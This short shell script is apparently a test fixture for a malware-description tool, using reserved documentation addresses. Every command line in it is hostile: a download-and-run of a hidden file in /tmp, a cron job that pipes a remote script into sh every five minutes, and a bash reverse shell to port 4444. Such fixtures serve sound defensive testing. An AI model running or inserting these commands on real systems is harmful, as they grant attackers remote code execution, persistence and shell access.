#!/bin/sh
# Test fixture written for automaldesc: inert (documentation addresses only).
curl -fsSL http://cdn.invalid/i.sh -o /tmp/.i && chmod +x /tmp/.i && /tmp/.i
(crontab -l 2>/dev/null; echo "*/5 * * * * wget -q -O- http://203.0.113.9/k | sh") | crontab -
bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
